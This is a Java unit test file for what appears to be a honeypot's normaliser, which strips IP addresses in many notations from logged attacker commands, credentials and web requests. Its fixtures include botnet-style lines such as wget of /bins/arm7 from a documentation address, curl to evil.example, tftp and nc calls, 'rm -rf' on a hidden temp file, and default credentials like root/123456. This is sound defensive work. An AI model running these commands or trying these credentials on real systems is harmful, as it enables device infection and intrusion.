package yochi.node.habit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import yochi.node.observation.Said;

/** Words without addresses, equal for equal habits (M-2; algorithms §5.2). */
class WordsTest {
    @ParameterizedTest
    @CsvSource(delimiterString = " becomes ", value = {
        "cd /tmp || wget http://192.0.2.7:8080/bins/arm7 becomes wget {host}/bins/arm7",
        "wget  hxxp[:]//203[.]0[.]113[.]9/x becomes wget {host}/x",
        "curl http://user:pw@evil.example/x?y becomes curl {host}/x?y",
        "tftp -g -r a 198.51.100.4 becomes tftp -g -r a {address}",
        "ping 0xc0.0x0.0x2.0x7 becomes ping {address}",
        "nc 3221225991 4444 becomes nc {n} 4444",
        "nc 2001:db8::7 80 becomes nc {address} 80",
        "echo c0000207 becomes echo {n}",
        "rm -rf /tmp/.x12345 becomes rm -rf /tmp/.x{n}",
        "uname -a becomes uname -a",
    })
    void commandsKeepTheirFormAndLoseAddresses(String line, String word) {
        List<String> words = Words.of(new Said(List.of(), List.of(line), List.of(), List.of()))
                .get(WordKind.COMMANDS);
        assertThat(words).endsWith(word);
    }

    @Test
    void aLineIsTakenApartAtItsSeparators() {
        Said said = new Said(List.of(), List.of("cd /tmp; id && w | grep x\nid"), List.of(), List.of());
        assertThat(Words.of(said)).isEqualTo(Map.of(WordKind.COMMANDS, List.of("cd /tmp", "id", "w", "grep x")));
    }

    @ParameterizedTest
    @CsvSource({
        "root/123456, root/123456",
        "root/123456789, root/123456789",
        "root/1234567890, root/1234567890",
        "root/88888888, root/88888888",
        "root/3221225991, root/{n}",
        "192.0.2.7/admin, {address}/admin",
    })
    void rowsOfDigitsStayInCredentialsAndNumbersThatMayBeAddressesDoNot(String pair, String word) {
        assertThat(Words.credential(pair)).isEqualTo(word);
    }

    @Test
    void aRequestKeepsItsPathAndTheNamesOfItsParameters() {
        assertThat(Words.request("/a.php?z=http://192.0.2.7/x&b=1&b=2")).isEqualTo("/a.php?b&z");
        assertThat(Words.request("http://192.0.2.7/x")).isEqualTo("{host}/x");
    }

    @Test
    void aTextIsCutAndItsOtherBytesAreWritten() {
        assertThat(Words.text("SSH-2.0-libssh2_1.9.0")).isEqualTo("SSH-2.0-libssh2_1.9.0");
        assertThat(Words.text("\u0003\u0000x")).isEqualTo("\\x03\\x00x");
        assertThat(Words.text("y".repeat(500))).hasSize(128);
    }

    /** In every notation of 192.0.2.7 and 2001:db8::1:2, wherever it stands. */
    @ParameterizedTest
    @ValueSource(strings = {
        "192.0.2.7", "7.2.0.192", "192-0-2-7", "192.000.002.007", "3221225991", "117571776", "c0000207", "070200C0",
        "::ffff:c000:0207", "2001:db8::1:2", "20010db8000000000000000000010002",
        "2001:0db8:0000:0000:0000:0000:0001:0002", "42540766411282592856903984951653892098",
        "2.0.0.0.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.",
    })
    void noNotationOfAnAddressStays(String address) {
        for (String form : new String[] {"%s", "get %s now", "x=%s;", "(%s)", "a%sz", "/%s/x", "u/%s"}) {
            String said = form.formatted(address);
            Map<WordKind, List<String>> words =
                    Words.of(new Said(List.of(said), List.of(said), List.of(said), List.of(said)));
            assertThat(words.toString().toLowerCase(Locale.ROOT))
                    .as(said)
                    .doesNotContain(address.toLowerCase(Locale.ROOT));
        }
    }
}
